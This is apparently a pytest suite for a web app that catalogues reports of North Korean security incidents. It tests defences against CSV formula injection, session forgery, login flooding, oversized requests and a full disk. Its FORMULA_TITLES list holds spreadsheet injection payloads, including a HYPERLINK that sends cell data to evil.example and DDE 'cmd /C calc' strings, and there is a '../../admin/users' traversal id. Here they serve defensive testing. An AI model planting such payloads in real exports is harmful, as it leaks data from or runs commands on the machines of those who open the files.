"""Reliability of the web app, second pass (issue 23, the web side): each test is an
attack or a fault that an outside run found, and failed before its fix.

The reports are written here (none comes from the shared data); records are made by
hand and stored with ``store.save_records``, as in ``test_web_security.py``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote, urljoin

import pytest
from fastapi.testclient import TestClient

from tumen.store.export import export
from tumen.ingest.run import ingest
from tumen.store import open_store
from tumen.web import auth
from tumen.web.app import create_app

PASSWORDS = {"vic": "Vic-pass-7731", "ed": "Ed-pass-5519", "ada": "Ada-pass-0284"}
ROLES = {"vic": "viewer", "ed": "editor", "ada": "admin"}
PARA = ("Traders in Hyesan said that officers of the Ministry of State Security searched "
        "homes near the market in March 2024 and took away two phones. ")
FORMULA_TITLES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
                  "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
SLASH_IDS = ["https://news.example/2024/03/item-7", "../../admin/users", "a/b/correct",
             "plain-id"]


def _reports() -> list[dict]:
    out = [{"id": rid, "title": f"Report {k} with a slash id", "published": "2024-03-02",
            "body": f"{PARA} Item {k}: the search lasted until the evening."}
           for k, rid in enumerate(SLASH_IDS)]
    out += [{"id": f"formula-{k}", "title": title, "published": "2024-03-03",
             "source": title, "body": f"{PARA} Formula item {k} was reported twice."}
            for k, title in enumerate(FORMULA_TITLES)]
    return out


def _record(report) -> dict:
    body = report.body
    at = body.find("Hyesan")
    ev = body.find("officers")
    return {"id": report.id, "title": report.title, "published": report.published,
            "source": report.source, "url": report.url, "tags": ["house search"],
            "places": [{"id": "hyesan", "name": "Hyesan", "kind": "city",
                        "province": "Ryanggang",
                        "mentions": [{"text": "Hyesan", "start": at, "end": at + 6}]}],
            "organizations": [], "laws": [], "dates": [],
            "incidents": [{"type": "house_search", "actor": report.title, "target": "homes",
                           "place": "Hyesan", "province": "Ryanggang", "date": "2024-03",
                           "date_precision": "month", "penalty": None,
                           "evidence": {"text": body[ev:ev + 60], "start": ev, "end": ev + 60}}]}


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("webrel")
    path = root / "store.db"
    src = root / "reports.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in _reports()), encoding="utf-8")
    with open_store(path) as store:
        summary = ingest(store, [src], parallel=False)
        assert summary.result.added == len(_reports()), summary.result.failed
        store.save_records([_record(r) for r in store.iter_reports()])
    for name, role in ROLES.items():
        auth.add_user(str(path), name, role, PASSWORDS[name])
    return path


def _csrf(client: TestClient, path: str = "/login") -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', client.get(path).text)
    assert match, path
    return match.group(1)


def login(client: TestClient, name: str, password: str | None = None):
    return client.post("/login", data={"csrf_token": _csrf(client), "name": name,
                                       "password": password or PASSWORDS[name], "next": "/"},
                       follow_redirects=False)


@pytest.fixture(scope="module")
def app(db):
    return create_app(str(db), require_login=True)


@pytest.fixture(scope="module")
def editor(app):
    with TestClient(app, client=("10.1.0.2", 1000)) as c:
        assert login(c, "ed").status_code == 303
        c.headers["X-CSRF-Token"] = c.get("/api/me").json()["csrf_token"]
        yield c


# -- 3c: the report page is linear in the size of the report ---------------------------
def _big_report(store, rid: str, copies: int) -> None:
    from tumen.record import Report

    body = PARA * copies
    store.add_reports([Report(id=rid, body=body, title=f"big {copies}")])
    body = store.get_report(rid).body
    mentions = lambda word: [{"text": word, "start": m.start(), "end": m.end()}  # noqa: E731
                             for m in re.finditer(re.escape(word), body)]
    store.save_records([{
        "id": rid, "title": f"big {copies}", "published": None, "source": None, "url": None,
        "tags": [], "places": [{"id": "h", "name": "Hyesan", "kind": "city",
                                "province": "Ryanggang", "mentions": mentions("Hyesan")}],
        "organizations": [{"id": "m", "name": "Ministry of State Security",
                           "mentions": mentions("Ministry of State Security")}],
        "laws": [], "dates": [{"text": "March 2024", "value": "2024-03", "start": m["start"],
                               "end": m["end"]} for m in mentions("March 2024")],
        "incidents": [{"type": "house_search", "actor": None, "target": None, "place": None,
                       "date": None, "date_precision": None, "penalty": None,
                       "evidence": {"text": m["text"], "start": m["start"], "end": m["end"]}}
                      for m in mentions("searched")[:40]]}])


def _best_of(n: int, fn) -> float:
    """The least CPU time of ``n`` runs (CPU time of this process, all threads: the
    test client runs the app in a thread; other jobs on the machine count less)."""
    times = []
    for _ in range(n):
        start = time.process_time()
        fn()
        times.append(time.process_time() - start)
    return min(times)


def test_report_page_time_grows_linearly_with_the_report(tmp_path):
    path = tmp_path / "big.db"
    with open_store(path) as store:
        _big_report(store, "big-1", 700)   # ~100,000 characters, ~2,800 marks
        _big_report(store, "big-2", 1400)  # twice that
    with TestClient(create_app(str(path))) as client:
        for rid in ("big-1", "big-2"):
            response = client.get(f"/api/reports/{rid}")
            assert response.status_code == 200
            assert len(response.json()["segments"]) > 4 * 700
        one = _best_of(5, lambda: client.get("/api/reports/big-1"))
        two = _best_of(5, lambda: client.get("/api/reports/big-2"))
        # linear: x2 (quadratic, before: x4)
        assert two / one < 3.0, (one, two)
        one = _best_of(5, lambda: client.get("/reports/big-1"))
        two = _best_of(5, lambda: client.get("/reports/big-2"))
        assert two / one < 3.0, (one, two)


# -- 12: CSV formula injection -------------------------------------------------------
def _assert_inert(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_exports_neutralize_formulas(editor, db, tmp_path):
    text = editor.get("/api/export.csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    titles = {r["report_id"]: r for r in rows if r["report_id"].startswith("formula-")}
    assert len(titles) == len(FORMULA_TITLES)
    for row in rows:
        _assert_inert(list(row.values()))
    stored = [editor.get(f"/api/reports/formula-{k}").json()["report"]["title"]
              for k in range(len(FORMULA_TITLES))]
    assert all(t.startswith(("=", "+", "-", "@")) for t in stored), stored
    for k, title in enumerate(stored):
        assert titles[f"formula-{k}"]["title"] == "'" + title  # OWASP: a leading quote
        assert titles[f"formula-{k}"]["actor"] == "'" + title
    # the CLI's export goes through the same writer
    out = tmp_path / "reports.csv"
    with open_store(db) as store:
        export(store, "csv", out)
        export(store, "csv", tmp_path / "records.csv", records=True)
    for name in ("reports.csv", "records.csv"):
        with open(tmp_path / name, encoding="utf-8", newline="") as fh:
            rows = list(csv.DictReader(fh))
        assert any(r["title"] == "'" + stored[0] for r in rows), name
        for row in rows:
            _assert_inert([v for v in row.values() if v])
    # JSON Lines keeps the titles as they are
    lines = [json.loads(x) for x in editor.get("/api/export.jsonl").text.splitlines()]
    assert {x["title"] for x in lines} >= set(stored)


# -- 13: corrections API with values of the wrong type --------------------------------
@pytest.mark.parametrize("changes", [{"target": 5}, {"target": ["a", "b"]}, {"place": True},
                                     {"actor": {"x": 1}}, {"tags": [1, 2]}, [1, 2], "x"])
def test_corrections_api_refuses_values_of_the_wrong_type(editor, changes):
    key = editor.get("/api/reports/formula-0").json()["record"]["incidents"][0]["key"]
    for action in ("edit", "add", "tags"):
        response = editor.post("/api/reports/formula-0/corrections",
                               json={"action": action, "key": key, "changes": changes,
                                     "evidence": "officers of the Ministry"})
        assert response.status_code in (400, 422), (action, changes, response.text)
        assert "error" in response.json()
    for body in ({"action": 5}, {"action": "edit", "key": 7}, {"action": "add", "evidence": []}):
        response = editor.post("/api/reports/formula-0/corrections", json=body)
        assert response.status_code in (400, 422), (body, response.text)


def test_corrections_api_still_takes_strings_and_tag_lists(editor):
    key = editor.get("/api/reports/formula-1").json()["record"]["incidents"][0]["key"]
    response = editor.post("/api/reports/formula-1/corrections",
                           json={"action": "edit", "key": key, "changes": {"target": "phones"}})
    assert response.status_code == 200, response.text
    response = editor.post("/api/reports/formula-1/corrections",
                           json={"action": "tags", "changes": {"tags": ["phones", "search"]}})
    assert response.status_code == 200, response.text
    assert response.json()["report"]["record"]["tags"] == ["phones", "search"]


# -- 14: ids with "/" ------------------------------------------------------------------
def test_ids_with_slashes_are_reachable_and_links_stay_on_them(editor):
    page = editor.get("/", params={"q": "slash"})
    assert page.status_code == 200
    hrefs = re.findall(r'<a class="title" href="([^"]+)"', page.text)
    assert len(hrefs) == len(SLASH_IDS), hrefs
    base = "http://testserver/"
    for href in hrefs:
        assert urljoin(base, href).startswith(base + "reports/"), href  # no retargeting
        assert href.count("/") == 2, href  # "/reports/" + one segment
    for rid in SLASH_IDS:
        href = next(h for h in hrefs if h == "/reports/" + quote(rid, safe=""))
        report = editor.get(href)
        assert report.status_code == 200, (rid, report.status_code)
        assert "<code>" + rid + "</code>" in report.text
        api = editor.get("/api/reports/" + href.split("/reports/", 1)[1])
        assert api.status_code == 200 and api.json()["report"]["id"] == rid
        form = editor.get(href + "/correct")
        assert form.status_code == 200 and 'action="' + href + '/corrections"' in form.text
        key = api.json()["record"]["incidents"][0]["key"]
        fixed = editor.post(href + "/corrections", follow_redirects=False,
                            data={"csrf_token": editor.headers["X-CSRF-Token"],
                                  "action": "edit", "key": key, "penalty": "a fine"})
        assert fixed.status_code == 303, (rid, fixed.text[:300])
        assert fixed.headers["location"] == href + "#incidents"
        again = editor.get("/api/reports/" + href.split("/reports/", 1)[1]).json()
        assert again["record"]["incidents"][0]["penalty"] == "a fine"


# -- a fresh small store for tests that change accounts or keys ------------------------
def _fresh_store(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "store.db"
    src = folder / "reports.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in _reports()), encoding="utf-8")
    with open_store(path) as store:
        assert ingest(store, [src], parallel=False).result.added == len(_reports())
        store.save_records([_record(r) for r in store.iter_reports()])
    for name, role in ROLES.items():
        auth.add_user(str(path), name, role, PASSWORDS[name])
    return path


def _signed(secret: str, session: dict) -> str:
    from itsdangerous import URLSafeTimedSerializer

    return URLSafeTimedSerializer(secret, salt="tumen-session").dumps(session)


# -- 9: the session key is not in the store --------------------------------------------
def test_a_copy_of_the_store_cannot_mint_a_session(tmp_path, monkeypatch):
    import sqlite3

    monkeypatch.delenv(auth.SECRET_ENV, raising=False)
    db = _fresh_store(tmp_path / "live")
    app = create_app(str(db), require_login=True)
    key_file = Path(str(db) + ".key")
    assert key_file.exists() and key_file.stat().st_mode & 0o777 == 0o600
    # the attacker has a copy of the store (a backup) and signs with every value in it
    conn = sqlite3.connect(db)
    values = [v for (v,) in conn.execute("SELECT value FROM web_settings")]
    ada_hash = conn.execute("SELECT password_hash FROM users WHERE name = 'ada'").fetchone()[0]
    conn.close()
    assert key_file.read_text().strip() not in values
    with TestClient(app, client=("10.9.0.1", 1)) as client:
        for value in values + ["", "tumen"]:
            for session in ({"csrf": "t", "user": "ada"},
                            {"csrf": "t", "user": "ada", "pw": auth.password_mark(value, ada_hash)}):
                client.cookies.clear()
                client.cookies.set(auth.SESSION_COOKIE, _signed(value or "x", session))
                assert client.get("/api/me").status_code == 401, value
        # the key in the key file does sign (the test knows it; a store copy does not)
        key = key_file.read_text().strip()
        client.cookies.clear()
        client.cookies.set(auth.SESSION_COOKIE, _signed(key, {
            "csrf": "t", "user": "ada", "pw": auth.password_mark(key, ada_hash)}))
        assert client.get("/api/me").json()["user"] == "ada"


def test_rotate_secret_ends_every_session_of_a_running_server(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from tumen.cli import app as cli_app

    monkeypatch.delenv(auth.SECRET_ENV, raising=False)
    db = _fresh_store(tmp_path / "rot")
    app = create_app(str(db), require_login=True)
    key_file = Path(str(db) + ".key")
    before = key_file.read_text()
    with TestClient(app, client=("10.9.0.2", 1)) as client:
        assert login(client, "ada").status_code == 303
        assert client.get("/api/me").json()["user"] == "ada"
        result = CliRunner().invoke(cli_app, ["user", "rotate-secret", "--db", str(db)])
        assert result.exit_code == 0, result.output
        assert key_file.read_text() != before and key_file.stat().st_mode & 0o777 == 0o600
        assert client.get("/api/me").status_code == 401  # the running server took the new key
        assert login(client, "ada").status_code == 303
        assert client.get("/api/me").json()["user"] == "ada"
    # TUMEN_SECRET instead of the key file; rotate-secret says to change it there
    monkeypatch.setenv(auth.SECRET_ENV, "an environment secret of enough length, 0123456789")
    other = _fresh_store(tmp_path / "env")
    Path(str(other) + ".key").unlink(missing_ok=True)
    with TestClient(create_app(str(other), require_login=True), client=("10.9.0.3", 1)) as c:
        assert login(c, "ada").status_code == 303
        assert c.get("/api/me").json()["user"] == "ada"
    assert not Path(str(other) + ".key").exists()
    proc = subprocess.run([sys.executable, "-m", "tumen", "user", "rotate-secret", "--db",
                           str(other)], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert proc.stderr.strip().count("\n") == 0 and "TUMEN_SECRET is set" in proc.stderr


def test_a_key_file_readable_by_others_is_refused(tmp_path, monkeypatch):
    monkeypatch.delenv(auth.SECRET_ENV, raising=False)
    db = _fresh_store(tmp_path / "perm")
    create_app(str(db))
    key_file = Path(str(db) + ".key")
    key_file.chmod(0o644)
    with pytest.raises(auth.AuthError, match="chmod 600"):
        create_app(str(db))


# -- 10: a password change or a removal ends the account's sessions --------------------
def test_sessions_end_when_the_password_changes_or_the_user_is_re_added(tmp_path):
    db = _fresh_store(tmp_path / "acc")
    app = create_app(str(db), require_login=True)
    with TestClient(app, client=("10.10.0.1", 1)) as one, \
            TestClient(app, client=("10.10.0.2", 1)) as two, \
            TestClient(app, client=("10.10.0.3", 1)) as admin:
        assert login(one, "vic").status_code == 303 and login(two, "vic").status_code == 303
        assert one.get("/api/me").json()["user"] == "vic"
        # removed and added again with a new password (the CLI's library calls)
        auth.remove_user(str(db), "vic")
        auth.add_user(str(db), "vic", "viewer", "Vic-new-pass-4410")
        assert one.get("/api/me").status_code == 401
        assert two.get("/api/me").status_code == 401
        assert login(one, "vic", "Vic-new-pass-4410").status_code == 303
        assert one.get("/api/me").json()["user"] == "vic"
        # a password change
        auth.set_password(str(db), "vic", "Vic-third-pass-1234")
        assert one.get("/api/me").status_code == 401
        # removed and re-added through the admin page
        assert login(two, "vic", "Vic-third-pass-1234").status_code == 303
        assert login(admin, "ada").status_code == 303
        token = _csrf(admin, "/admin/users")
        for form in ({"action": "remove", "name": "vic"},
                     {"action": "add", "name": "vic", "role": "admin", "password": "Vic-4-pass-99"}):
            response = admin.post("/admin/users", data=form | {"csrf_token": token},
                                  follow_redirects=False)
            assert response.status_code == 303, response.text[:300]
        assert two.get("/api/me").status_code == 401  # not an admin session by the back door
        assert admin.get("/api/me").json()["user"] == "ada"


# -- 11: argon2 runs off the event loop, a few at a time -------------------------------
def test_password_checks_run_off_the_event_loop_and_are_bounded(tmp_path, monkeypatch):
    import asyncio
    import socket
    import threading

    import httpx
    import uvicorn

    from tumen.web import app as web_app

    db = _fresh_store(tmp_path / "flood")
    calls: list[bool] = []
    running = [0, 0]  # now, most at once
    lock = threading.Lock()
    real = auth.verify_password

    def watched(stored: str, password: str) -> bool:
        try:
            asyncio.get_running_loop()
            on_loop = True
        except RuntimeError:
            on_loop = False
        with lock:
            calls.append(on_loop)
            running[0] += 1
            running[1] = max(running)
        try:
            return real(stored, password)
        finally:
            with lock:
                running[0] -= 1

    monkeypatch.setattr(auth, "verify_password", watched)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(create_app(str(db), require_login=True),
                                           host="127.0.0.1", port=port, log_level="error"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(200):
            try:
                httpx.get(base + "/favicon.ico", timeout=1)
                break
            except httpx.HTTPError:
                time.sleep(0.05)
        statuses: list[int] = []

        def one_login(k: int) -> None:
            with httpx.Client(base_url=base, timeout=60) as c:
                token = re.search(r'name="csrf_token" value="([^"]+)"',
                                  c.get("/login").text).group(1)
                name = ("vic", "ed", "ada")[k % 3]
                r = c.post("/login", data={"csrf_token": token, "name": name,
                                           "password": PASSWORDS[name], "next": "/"})
                statuses.append(r.status_code if not r.history else r.history[0].status_code)

        threads = [threading.Thread(target=one_login, args=(k,)) for k in range(10)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert statuses == [303] * 10, statuses
        assert len(calls) == 10
        assert not any(calls), "a password was checked on the event loop"
        assert 1 <= running[1] <= web_app.HASH_THREADS, running
    finally:
        server.should_exit = True
        thread.join(10)


# -- 6 and 7: a full disk ----------------------------------------------------------------
@pytest.fixture
def full_disk(tmp_path):
    """A store on a real 8 MiB file system (tmpfs) that is then filled to the last
    byte, with reports changed just before (their index rows must be written).  A
    connection is held open, as a running ingest or server holds one (SQLite's shared
    memory file exists).  Skips when mounting is not permitted."""
    import shutil
    import sqlite3

    mount = tmp_path / "small"
    mount.mkdir()
    if shutil.which("mount") is None:
        pytest.skip("no mount command")
    proc = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", str(mount)],
                          capture_output=True, text=True)
    if proc.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs here ({proc.stderr.strip() or 'not permitted'})")
    holder = None
    try:
        db = _fresh_store(mount / "s")
        create_app(str(db)).state.db.close()  # served once before: the key file exists
        late = tmp_path / "late.jsonl"
        late.write_text("".join(json.dumps({"id": f"late-{k}", "title": f"Late {k}",
                                            "body": f"{PARA} Late report {k}."}) + "\n"
                                for k in range(3)), encoding="utf-8")
        with open_store(db) as store:
            assert ingest(store, [late], parallel=False).result.added == 3
        holder = sqlite3.connect(db)
        holder.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        assert holder.execute("SELECT count(*) FROM web_dirty").fetchone()[0] >= 3
        filler = mount / "filler"
        fd = os.open(filler, os.O_WRONLY | os.O_CREAT, 0o600)
        try:
            for size in (65536, 512, 1):  # to the last byte
                try:
                    while True:
                        os.write(fd, b"\0" * size)
                except OSError:
                    pass
        finally:
            os.close(fd)
        yield db, filler
    finally:
        if holder is not None:
            holder.close()
        subprocess.run(["umount", "-l", str(mount)], capture_output=True)


def _headers_ok(response) -> bool:
    return all(response.headers.get(k) for k in ("content-security-policy",
                                                  "x-frame-options", "x-content-type-options"))


def test_a_full_disk_leaves_reads_working_and_writes_answer_503(full_disk):
    db, filler = full_disk
    app = create_app(str(db), require_login=True)  # starts (it crashed before)
    with TestClient(app, client=("10.7.0.1", 1)) as client:
        assert login(client, "ed").status_code == 303
        token = client.get("/api/me").json()["csrf_token"]
        for path in ("/", "/api/search?q=market", "/incidents", "/api/incidents", "/timeline",
                     "/map", "/api/facets", "/reports/plain-id", "/api/reports/plain-id",
                     "/api/export.csv", "/static/tumen.css"):
            response = client.get(path)
            assert response.status_code == 200, (path, response.status_code, response.text[:200])
            assert _headers_ok(response), path
        key = client.get("/api/reports/plain-id").json()["record"]["incidents"][0]["key"]
        response = client.post("/api/reports/plain-id/corrections", headers={"X-CSRF-Token": token},
                               json={"action": "edit", "key": key, "changes": {"penalty": "x"}})
        assert response.status_code == 503, response.text[:300]
        message = response.json()["error"]
        assert str(db) in message and "full" in message and "\n" not in message
        assert _headers_ok(response)
        page = client.post("/reports/plain-id/corrections", data={
            "csrf_token": token, "action": "edit", "key": key, "penalty": "x"})
        assert page.status_code == 503 and "full" in page.text and _headers_ok(page)
        # room again: the write goes through and the late reports are indexed
        filler.unlink()
        response = client.post("/api/reports/plain-id/corrections", headers={"X-CSRF-Token": token},
                               json={"action": "edit", "key": key, "changes": {"penalty": "x"}})
        assert response.status_code == 200, response.text[:300]
        assert client.get("/api/search", params={"q": "late"}).json()["total"] == 3


def test_tumen_serve_starts_on_a_full_disk(full_disk):
    import httpx

    db, _ = full_disk
    with socket_port() as port:
        proc = subprocess.Popen([sys.executable, "-m", "tumen", "serve", "--db", str(db),
                                 "--port", str(port)], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True)
    try:
        answer = None
        for _ in range(300):
            if proc.poll() is not None:
                break
            try:
                answer = httpx.get(f"http://127.0.0.1:{port}/api/search", timeout=2)
                break
            except httpx.HTTPError:
                time.sleep(0.1)
        assert proc.poll() is None, proc.communicate()[1][-2000:]
        assert answer is not None and answer.status_code == 401  # login required: it serves
        assert _headers_ok(answer)
    finally:
        proc.terminate()
        proc.wait(30)


class socket_port:
    """A free TCP port on 127.0.0.1."""

    def __enter__(self) -> int:
        import socket

        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            return s.getsockname()[1]

    def __exit__(self, *exc) -> None:
        return None


def test_the_login_limiter_fails_closed_on_a_full_disk(full_disk):
    db, _ = full_disk
    app = create_app(str(db), require_login=True)
    with TestClient(app, client=("10.6.0.1", 1)) as client:
        statuses = [login(client, "ada", "wrong-guess-%d" % k).status_code for k in range(7)]
        assert statuses[:auth.LOGIN_MAX_FAILURES] == [401] * auth.LOGIN_MAX_FAILURES, statuses
        assert statuses[auth.LOGIN_MAX_FAILURES:] == [429, 429], statuses
        right = login(client, "ada")
        assert right.status_code == 429  # the right password waits too
        assert client.get("/api/me").status_code == 401


# -- 8: request bodies are limited before they are read --------------------------------
class _Server:
    """The app served by uvicorn in a thread on a free port (a real HTTP server)."""

    def __init__(self, app):
        import threading

        import uvicorn

        with socket_port() as self.port:
            pass
        self.server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=self.port,
                                                    log_level="error"))
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> "_Server":
        import socket

        self.thread.start()
        for _ in range(200):
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=1).close()
                return self
            except OSError:
                time.sleep(0.05)
        raise RuntimeError("the test server did not start")

    def __exit__(self, *exc) -> None:
        self.server.should_exit = True
        self.thread.join(10)

    def raw(self, head: str, chunks: list[bytes]) -> bytes:
        """Send a request head, then body chunks as long as the server reads them;
        return what the server answered (up to 20 s after the last byte sent)."""
        import socket

        sock = socket.create_connection(("127.0.0.1", self.port), timeout=20)
        try:
            sock.sendall(head.encode())
            for chunk in chunks:
                try:
                    sock.sendall(chunk)
                except OSError:  # the server answered and closed
                    break
            answer = b""
            while b"\r\n\r\n" not in answer:
                part = sock.recv(65536)
                if not part:
                    break
                answer += part
            return answer
        except socket.timeout:
            return b""
        finally:
            sock.close()


def _spooled(tmp: Path) -> int:
    return sum(p.stat().st_size for p in tmp.rglob("*") if p.is_file())


def test_request_bodies_are_refused_before_they_are_spooled(db, tmp_path, monkeypatch):
    import tempfile

    from tumen.web import app as web_app

    spool = tmp_path / "spool"  # where Starlette's multipart parser would write
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))
    boundary = "b0undary"
    part = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.bin\"\r\n"
            "Content-Type: application/octet-stream\r\n\r\n").encode()
    with _Server(create_app(str(db), require_login=True)) as server:
        # a declared 4 GB body: answered at once, before a byte of it is read
        for path in ("/login", "/upload", "/logout", "/admin/users", "/api/reports/plain-id/corrections",
                     "/reports/plain-id/corrections", "/no-such-route"):
            answer = server.raw(
                f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 4294967296\r\n"
                f"Content-Type: multipart/form-data; boundary={boundary}\r\n\r\n", [part])
            assert answer.startswith(b"HTTP/1.1 413"), (path, answer[:200])
            assert b"content-security-policy" in answer.lower()
        # a body with no declared length, held open: cut off at the limit
        chunk = b"x" * 65536
        body = [part] + [chunk] * (2 * web_app.MAX_BODY_BYTES // len(chunk))
        chunked = [b"%x\r\n%s\r\n" % (len(c), c) for c in body]  # never the last chunk
        answer = server.raw(
            "POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
            f"Content-Type: multipart/form-data; boundary={boundary}\r\n\r\n", chunked)
        assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
        assert _spooled(spool) <= web_app.MAX_BODY_BYTES
        # a correction of a normal size still goes through the limit
        answer = server.raw("POST /api/reports/plain-id/corrections HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                            "Content-Type: application/json\r\nContent-Length: 2\r\n\r\n", [b"{}"])
        assert answer.startswith(b"HTTP/1.1 401"), answer[:200]  # not logged in: read, answered


# -- minors: uploads analyze what was uploaded; "testserver" only from the test client --
def test_an_upload_analyzes_only_what_was_uploaded(tmp_path):
    db = tmp_path / "backlog.db"
    backlog = tmp_path / "backlog.jsonl"
    backlog.write_text("".join(json.dumps({"id": f"old-{k}", "body": f"{PARA} Backlog {k}."})
                               + "\n" for k in range(4)), encoding="utf-8")
    with open_store(db) as store:
        assert ingest(store, [backlog], parallel=False).result.added == 4
    with TestClient(create_app(str(db))) as client:  # local desk mode: admin
        token = client.get("/api/me").json()["csrf_token"]
        response = client.post("/upload", data={"csrf_token": token,
                                                "text": "Stopped at the river\n\nGuards in "
                                                        "Musan stopped two people at the river "
                                                        "in April 2024."})
        assert response.status_code == 200, response.text[:300]
    with open_store(db) as store:
        analyzed = {r["id"] for r in store.iter_records()}
    assert len(analyzed) == 1 and not any(i.startswith("old-") for i in analyzed), analyzed


def test_testserver_host_is_refused_from_a_real_client(tmp_path):
    import httpx

    db = tmp_path / "desk.db"
    with open_store(db):
        pass
    with _Server(create_app(str(db))) as server:  # local desk mode on 127.0.0.1
        base = f"http://127.0.0.1:{server.port}"
        assert httpx.get(base + "/api/me").status_code == 200
        refused = httpx.get(base + "/api/me", headers={"Host": "testserver"})
        assert refused.status_code == 403 and "DNS-rebinding" in refused.text
    with TestClient(create_app(str(db))) as client:  # the in-process test client still works
        assert client.get("/api/me").status_code == 200
